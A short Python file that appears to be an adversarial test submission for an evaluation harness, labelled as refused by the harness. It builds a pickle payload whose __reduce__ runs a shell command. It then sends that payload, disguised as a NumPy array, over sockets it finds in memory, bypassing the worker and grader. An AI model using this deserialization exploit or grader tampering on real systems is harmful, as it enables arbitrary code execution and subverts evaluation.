# Tries: writes a pickle in place of the arrays, past the worker, on the socket itself.
# Refused as: malformed answer | spoke before GO

import gc
import os
import pickle
import socket
import struct

import numpy as np


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/medalist-was-here",)


class ComplexFeatureExtractor:
    def extract(self, images):
        return np.zeros((len(images), 13))


class ComplexNN:
    pass


def run(images, labels, seed):
    body = b"\x93NUMPY\x01\x00" + pickle.dumps({"features": Payload()})
    for channel in [each for each in gc.get_objects() if isinstance(each, socket.socket)]:
        channel.sendall(struct.pack(">cQ", b"A", len(body)) + body)
    return {}
